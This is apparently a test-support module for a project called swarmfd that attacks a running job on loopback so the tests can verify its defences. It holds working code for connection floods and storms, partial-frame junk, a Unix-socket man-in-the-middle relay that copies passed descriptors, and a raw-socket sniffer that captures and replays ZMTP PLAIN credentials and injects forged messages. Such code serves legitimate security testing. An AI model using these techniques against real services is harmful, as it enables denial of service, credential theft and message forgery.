"""A stranger without the job secret, attacking a running swarmfd job (tests/test_front_door.py).

Run as its own process (``python -m tests.support.attacker MODE ...``), so its CPU and
descriptors are its own, and the test can stop it at any time. It prints one JSON
line of counters when it ends (SIGTERM or its duration). Modes:

* ``flood PIDS``: find every TCP port the given processes listen on (except
  ``--skip`` ports) as soon as it appears (polling /proc every millisecond), open
  ``--silent`` connections to it at once and keep them silent, then open and drop
  ``--rate`` new silent connections a second. Prints ``{"ready": true}`` when it starts
  watching.
* ``storm PORTS``: connect to each of the given ports (on 127.0.0.1) as fast as it can,
  or ``--rate`` connections a second at each, from the start (before a port listens,
  each attempt is refused at once), keeping the newest ``--hold`` connections of each
  port open and silent and resetting older ones (SO_LINGER 0: no TIME_WAIT, so the
  rate is not bounded by the ephemeral ports). Counts attempts, connections
  established, and the rate reached. With ``--stdin`` it also reads more ports, one a
  line, as the test learns them. Prints ``{"ready": true}`` once it runs.
* ``junk PORT``: open ``--count`` connections to PORT, each sending a ZMTP greeting
  and the start of one frame that announces ``--frame`` bytes, then ``--frame``
  bytes of junk, and hold them open (libzmq reads a frame before it can authenticate).
* ``silent PORT``: open ``--count`` silent connections to PORT and hold them.
* ``shm-relay DIR``: another job's process that shares the directory where a host's
  ranks meet to share memory (``SWARMFD_SHM_DIR``), under the same uid: it watches the
  directory (inotify), renames the setup socket as it appears and binds its own under
  the name, and passes every connection through to the renamed one, message by
  message, descriptors included, keeping a copy of each descriptor it sees. Counts
  ``interposed`` sockets, ``connections``, ``messages`` and ``descriptors``.
* ``sniff-replay``: read loopback traffic (a raw AF_PACKET socket, root only), pick up
  every ZMTP PLAIN HELLO (user name and password in clear), and replay each one on a
  new connection to the port it went to, then send forged DATA and ABORT messages.

Every socket is closed when it ends. Nothing here is swarmfd code: it speaks the bytes.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from typing import Any

#: The checkout (``python -m tests.support.attacker`` runs from there).
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def greeting(mechanism: str) -> bytes:
    """A ZMTP 3.0 greeting offering ``mechanism`` as a client (64 bytes)."""
    return (b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + mechanism.encode().ljust(20, b"\0")
            + b"\0" + b"\0" * 31)


def _raise_fd_limit() -> None:
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def listening_ports(pid: int) -> set[int]:
    """TCP ports (IPv4) that process ``pid`` listens on, from /proc (inode matching)."""
    inodes = set()
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            with contextlib.suppress(OSError):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        with open(f"/proc/{pid}/net/tcp") as f:
            lines = f.read().splitlines()[1:]
    except OSError:
        return set()
    ports = set()
    for line in lines:
        parts = line.split()
        if len(parts) > 9 and parts[3] == "0A" and parts[9] in inodes:  # 0A: LISTEN
            ports.add(int(parts[1].rsplit(":", 1)[1], 16))
    return ports


def _connect(port: int, host: str = "127.0.0.1") -> socket.socket | None:
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return None
    return s


class Counters(dict[str, Any]):
    def bump(self, key: str, n: int = 1) -> None:
        self[key] = self.get(key, 0) + n


def flood(pids: list[int], skip: set[int], silent: int, rate: float, duration: float,
          out: Counters, stop: threading.Event) -> None:
    held: list[socket.socket] = []
    seen: dict[int, float] = {}
    churn: list[socket.socket] = []
    end = time.monotonic() + duration
    next_new = time.monotonic()
    # Watching from now: the caller may start the ranks (a late start, under CI load, found
    # only rank 0's listener, the others' ranks having exited by then).
    print(json.dumps({"ready": True}), flush=True)
    try:
        while not stop.is_set() and time.monotonic() < end:
            for pid in pids:
                for port in listening_ports(pid) - skip - set(seen):
                    seen[port] = time.monotonic()
                    for _ in range(silent):
                        s = _connect(port)
                        if s is not None:
                            held.append(s)
                            out.bump("silent")
            now = time.monotonic()
            while seen and rate > 0 and next_new <= now:
                for port in seen:
                    s = _connect(port)
                    if s is not None:
                        churn.append(s)
                        out.bump("churn")
                next_new += 1.0 / rate
            while len(churn) > 200:
                churn.pop(0).close()
            time.sleep(0.001)
    finally:
        out["ports"] = sorted(seen)
        for s in held + churn:
            s.close()


_RESET = struct.pack("ii", 1, 0)  # SO_LINGER on, 0 s: close() resets, no TIME_WAIT


def _more_ports(ports: list[int], held: dict[int, list[socket.socket]]) -> None:
    """Ports written to stdin meanwhile (``--stdin``), one a line."""
    import select

    while select.select([sys.stdin], [], [], 0)[0]:
        line = sys.stdin.readline()
        if not line:
            return
        port = int(line)
        if port not in held:
            ports.append(port)
            held[port] = []


def storm(ports: list[int], rate: float, hold_open: int, duration: float, out: Counters,
          stop: threading.Event, stdin: bool = False) -> None:
    """See ``storm`` in the module docstring."""
    held: dict[int, list[socket.socket]] = {p: [] for p in ports}
    pending: list[tuple[int, socket.socket]] = []
    start = time.monotonic()
    end = start + duration
    n = 0
    print(json.dumps({"ready": True}), flush=True)
    try:
        while not stop.is_set():
            now = time.monotonic()
            if now > end:
                break
            if rate > 0 and n >= (now - start) * rate:
                time.sleep(min(0.001, n / rate - (now - start)))
                continue
            if stdin and (not ports or n % 64 == 0):
                _more_ports(ports, held)
            if not ports:
                time.sleep(0.001)
                start = time.monotonic()  # the rate counts from the first port on
                continue
            n += 1
            for port in ports:
                s = socket.socket()
                s.setblocking(False)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
                err = s.connect_ex(("127.0.0.1", port))
                out.bump("attempts")
                if err not in (0, errno.EINPROGRESS):
                    s.close()
                    out.bump("refused")
                    continue
                held[port].append(s)
                pending.append((port, s))
                if len(held[port]) > hold_open:
                    held[port].pop(0).close()
            if len(pending) > 256:  # count the ones the kernel completed
                for _, s in pending:
                    if s.fileno() >= 0 and not s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        out.bump("established")
                pending.clear()
    finally:
        elapsed = max(1e-9, time.monotonic() - start)
        out["rate_per_port"] = round(n / elapsed)
        out["ports"] = list(ports)
        out["seconds"] = round(elapsed, 2)
        for socks in held.values():
            for s in socks:
                s.close()


def _pump(src: socket.socket, dst: socket.socket, out: Counters, kept: list[int]) -> None:
    """Pass messages (and their descriptors, a copy kept) from ``src`` to ``dst``."""
    try:
        while True:
            msg, fds, _, _ = socket.recv_fds(src, 1 << 16, 253)
            if not msg and not fds:
                break
            out.bump("messages")
            out.bump("descriptors", len(fds))
            kept.extend(os.dup(f) for f in fds)
            if fds:
                socket.send_fds(dst, [msg], fds)
                for f in fds:
                    os.close(f)
            else:
                dst.send(msg)
    except OSError:
        pass
    finally:
        with contextlib.suppress(OSError):
            dst.shutdown(socket.SHUT_RDWR)


def _relay(listener: socket.socket, hidden: str, out: Counters, kept: list[int]) -> None:
    while True:
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        out.bump("connections")
        up = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        try:
            up.connect(hidden)
        except OSError:
            conn.close()
            continue
        for a, b in ((conn, up), (up, conn)):
            threading.Thread(target=_pump, args=(a, b, out, kept), daemon=True).start()


def shm_relay(directory: str, duration: float, out: Counters, stop: threading.Event) -> None:
    """See ``shm-relay`` in the module docstring."""
    import ctypes
    import select

    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    in_create = 0x100
    libc.inotify_add_watch(watch, directory.encode(), in_create)
    ours: set[str] = set()
    kept: list[int] = []
    listeners: list[socket.socket] = []
    print(json.dumps({"ready": True}), flush=True)
    end = time.monotonic() + duration
    try:
        while not stop.is_set() and time.monotonic() < end:
            if not select.select([watch], [], [], 0.05)[0]:
                continue
            data = os.read(watch, 1 << 16)
            at = 0
            while at + 16 <= len(data):
                _, _, _, size = struct.unpack_from("iIII", data, at)
                name = data[at + 16:at + 16 + size].rstrip(b"\0").decode()
                at += 16 + size
                if (not name.startswith("swarmfd-shm-") or not name.endswith(".sock")
                        or name in ours):
                    continue
                real = os.path.join(directory, name)
                hidden = os.path.join(directory, ".relayed-" + name)
                try:
                    os.rename(real, hidden)
                except OSError:
                    continue
                listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                listener.bind(real)
                listener.listen(16)
                ours.add(name)
                listeners.append(listener)
                out.bump("interposed")
                threading.Thread(target=_relay, args=(listener, hidden, out, kept),
                                 daemon=True).start()
    finally:
        for listener in listeners:
            listener.close()
        for f in kept:
            os.close(f)
        os.close(watch)


def hold(port: int, count: int, payload: bytes, duration: float, out: Counters,
         stop: threading.Event) -> None:
    """Open ``count`` connections and send each all of ``payload`` (as far as the target
    takes it) within 10 s, then hold them. Counts: ``established`` (the target accepted;
    it may have dropped them since: ``dropped``), ``bytes_sent``."""
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            s = _connect(port)
            if s is not None:
                socks.append(s)
        deadline = time.monotonic() + 10
        left = {i: memoryview(payload) for i in range(len(socks))}
        established: set[int] = set()
        dropped = total = 0
        while left and time.monotonic() < deadline:
            for i in list(left):
                s = socks[i]
                if i not in established:
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        del left[i]  # refused
                        continue
                    try:
                        s.getpeername()
                    except OSError:
                        continue  # still connecting
                    established.add(i)
                try:
                    n = s.send(left[i]) if len(left[i]) else 0
                except BlockingIOError:
                    continue
                except OSError:
                    dropped += 1  # the target dropped it
                    del left[i]
                    continue
                total += n
                left[i] = left[i][n:]
                if not len(left[i]):
                    del left[i]
            time.sleep(0.002)
        out["established"] = len(established)
        out["dropped"] = dropped
        out["bytes_sent"] = total
        print(json.dumps({"ready": True}), flush=True)
        end = time.monotonic() + duration
        while not stop.is_set() and time.monotonic() < end:
            time.sleep(0.02)
    finally:
        for s in socks:
            s.close()


def junk_payload(frame: int, mechanism: str) -> bytes:
    """A greeting, then one long frame (flags 0x02: 8-byte size) announcing ``frame`` bytes
    and all of them but the last: the target holds the partial frame."""
    return greeting(mechanism) + b"\x02" + struct.pack(">Q", frame) + os.urandom(frame - 1)


# -- sniffing ----------------------------------------------------------------------------


def _tcp_payloads(raw: socket.socket) -> Any:
    """Yield (dst_port, payload) of TCP segments seen on the loopback interface."""
    while True:
        try:
            frame = raw.recv(65535)
        except TimeoutError:
            yield None
            continue
        if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 6:
            continue
        tcp = ip[ihl:]
        dst = struct.unpack(">H", tcp[2:4])[0]
        off = (tcp[12] >> 4) * 4
        data = tcp[off:]
        if data:
            yield dst, bytes(data)


def _plain_hellos(data: bytes) -> list[tuple[bytes, bytes]]:
    """ZMTP PLAIN HELLO commands in a TCP payload: [(username, password)]."""
    found = []
    at = data.find(b"\x05HELLO")
    while at >= 0:
        body = data[at + 6:]
        if body:
            ulen = body[0]
            user = body[1:1 + ulen]
            if len(body) > 1 + ulen:
                plen = body[1 + ulen]
                pw = body[2 + ulen:2 + ulen + plen]
                if len(pw) == plen:
                    found.append((user, pw))
        at = data.find(b"\x05HELLO", at + 1)
    return found


#: A classic BPF program for the sniffer's socket: IPv4 TCP frames of at most
#: SMALL_FRAME bytes (a ZMTP PLAIN HELLO travels alone in a small segment). The kernel
#: then queues only those: with every loopback frame queued (bulk data of other tests
#: included), a sniffer in Python fell behind under load, its receive buffer overflowed
#: and it missed HELLOs (1 token of 6 seen, twice, at a load of 4-9).
SMALL_FRAME = 600
_SMALL_TCP_FILTER = [
    (0x28, 0, 0, 12),          # ldh [12]: ethertype
    (0x15, 0, 5, 0x0800),      # jeq IPv4, else drop
    (0x30, 0, 0, 23),          # ldb [23]: IP protocol
    (0x15, 0, 3, 6),           # jeq TCP, else drop
    (0x28, 0, 0, 16),          # ldh [16]: IP total length
    (0x25, 1, 0, SMALL_FRAME),  # jgt SMALL_FRAME: drop
    (0x06, 0, 0, 0xFFFF),      # ret: keep the frame
    (0x06, 0, 0, 0),           # drop: ret 0
]
SO_ATTACH_FILTER = 26
SO_RCVBUFFORCE = 33  # Linux; not in Python's socket module
#: The sniffer's receive buffer (SO_RCVBUFFORCE, root), for bursts of small frames.
SNIFF_RCVBUF = 32 << 20


def _sniffer() -> socket.socket:
    """A raw socket on loopback that sees only small IPv4 TCP frames (see above)."""
    import ctypes

    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    prog = b"".join(struct.pack("HBBI", *ins) for ins in _SMALL_TCP_FILTER)
    buf = ctypes.create_string_buffer(prog)
    fprog = struct.pack("HL", len(_SMALL_TCP_FILTER), ctypes.addressof(buf))
    raw.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    raw.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, SNIFF_RCVBUF)
    raw.bind(("lo", 0))
    return raw


#: How often the sniffer sends its forged messages on every replayed connection. Once per
#: captured frame was a feedback loop: the forged messages are small loopback frames it
#: captures too, and under load it fell behind and missed HELLOs (3 tokens of 6 in CI).
FORGE_EVERY = 0.05
#: After it is told to stop, the sniffer still reads what the kernel queued for it, for
#: at most this long (a HELLO captured is a HELLO replayed).
DRAIN_SECONDS = 2.0


def sniff_replay(duration: float, out: Counters, stop: threading.Event,
                 forged: list[list[bytes]]) -> None:
    import zmq

    raw = _sniffer()
    raw.settimeout(0.05)
    ctx = zmq.Context()
    socks: list[Any] = []
    seen: set[tuple[int, bytes, bytes]] = set()
    print(json.dumps({"ready": True}), flush=True)
    end = time.monotonic() + duration
    drain_until: float | None = None
    last_forged = 0.0
    try:
        for item in _tcp_payloads(raw):
            now = time.monotonic()
            if drain_until is None and (stop.is_set() or now > end):
                drain_until = now + DRAIN_SECONDS  # read what is queued, then stop
            if drain_until is not None and (item is None or now > drain_until):
                break
            fresh = False
            if item is not None:
                port, data = item
                for user, pw in _plain_hellos(data):
                    if (port, user, pw) in seen:
                        continue
                    seen.add((port, user, pw))
                    out.bump("tokens_sniffed")
                    for kind in (zmq.DEALER, zmq.PUSH):
                        s = ctx.socket(kind)
                        s.setsockopt(zmq.LINGER, 0)
                        try:
                            s.setsockopt(zmq.PLAIN_USERNAME, user)
                            s.setsockopt(zmq.PLAIN_PASSWORD, pw)
                        except zmq.ZMQError:  # not a real HELLO after all
                            s.close()
                            continue
                        s.connect(f"tcp://127.0.0.1:{port}")
                        socks.append(s)
                        out.bump("replays")
                        fresh = True
            if drain_until is None and (fresh or now - last_forged >= FORGE_EVERY):
                last_forged = now
                for s in socks:
                    for frames in forged:
                        with contextlib.suppress(zmq.ZMQError):
                            s.send_multipart(frames, zmq.NOBLOCK)
                            out.bump("forged_sent")
    finally:
        for s in socks:
            s.close(linger=0)
        ctx.term()
        raw.close()


def _forged_messages() -> list[list[bytes]]:
    """A DATA message claiming rank 1 for the first all_reduce of 8 int64s, and an ABORT."""
    sys.path.insert(0, ROOT)
    from swarmfd.comm import wire

    sig = wire.Signature(wire.Collective.ALL_REDUCE, wire.ReduceOp.SUM, 4, wire.NO_ROOT, 8,
                         wire.shape_hash((8,)))
    out = []
    for seq in range(1, 64):
        out.append([wire.pack_header(wire.Kind.DATA, sig, 1, seq, 0, 64, wire.FLAG_INLINE)
                    + struct.pack("<8q", *([1000] * 8))])
    body = b'{"kind": "error", "rank": 1, "message": "forged by a stranger"}'
    out.append([wire.pack_header(wire.Kind.ABORT, wire.Signature(wire.Collective.NONE), 1, 0,
                                 0, len(body), wire.FLAG_INLINE) + body])
    return out


class Attacker:
    """``python -m tests.support.attacker ...`` as a context manager, for the tests; ``.result``
    its counters once stopped."""

    def __init__(self, *args: Any, wait_ready: bool = False) -> None:
        self.args = [str(a) for a in args]
        self.wait_ready = wait_ready
        self.result: dict[str, Any] = {}

    def __enter__(self) -> Attacker:
        self.proc = subprocess.Popen([sys.executable, "-m", "tests.support.attacker", *self.args],
                                     cwd=ROOT, stdout=subprocess.PIPE, stdin=subprocess.PIPE,
                                     text=True)
        if self.wait_ready:
            assert self.proc.stdout is not None
            line = self.proc.stdout.readline()
            assert json.loads(line or "{}").get("ready"), f"attacker did not start: {line!r}"
        return self

    def add(self, port: int) -> None:
        """Tell a ``storm --stdin`` attacker one more port."""
        assert self.proc.stdin is not None
        self.proc.stdin.write(f"{port}\n")
        self.proc.stdin.flush()

    def stop(self) -> dict[str, Any]:
        if self.proc.poll() is None:
            self.proc.terminate()
        try:
            out, _ = self.proc.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            out, _ = self.proc.communicate()
        lines = [ln for ln in (out or "").splitlines() if ln.startswith("{")]
        self.result = json.loads(lines[-1]) if lines else {}
        return self.result

    def __exit__(self, *exc: object) -> None:
        self.stop()


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["flood", "storm", "junk", "silent", "shm-relay",
                                    "sniff-replay"])
    p.add_argument("targets", nargs="*")
    p.add_argument("--skip", type=int, action="append", default=[])
    p.add_argument("--silent", type=int, default=100)
    p.add_argument("--rate", type=float, default=0.0)
    p.add_argument("--count", type=int, default=300)
    p.add_argument("--frame", type=int, default=(1 << 20) - 64)
    p.add_argument("--mechanism", default="CURVE")
    p.add_argument("--duration", type=float, default=30.0)
    p.add_argument("--hold", type=int, default=200)
    p.add_argument("--stdin", action="store_true")
    args = p.parse_args(argv)
    _raise_fd_limit()
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    out = Counters()
    try:
        ports = [int(t) for t in args.targets] if args.mode != "shm-relay" else []
        if args.mode == "shm-relay":
            shm_relay(args.targets[0], args.duration, out, stop)
        elif args.mode == "flood":
            flood(ports, set(args.skip), args.silent, args.rate, args.duration, out,
                  stop)
        elif args.mode == "storm":
            storm(ports, args.rate, args.hold, args.duration, out, stop,
                  args.stdin)
        elif args.mode == "junk":
            hold(ports[0], args.count, junk_payload(args.frame, args.mechanism),
                 args.duration, out,
                 stop)
        elif args.mode == "silent":
            hold(ports[0], args.count, b"", args.duration, out, stop)
        else:
            sniff_replay(args.duration, out, stop, _forged_messages())
    finally:
        print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
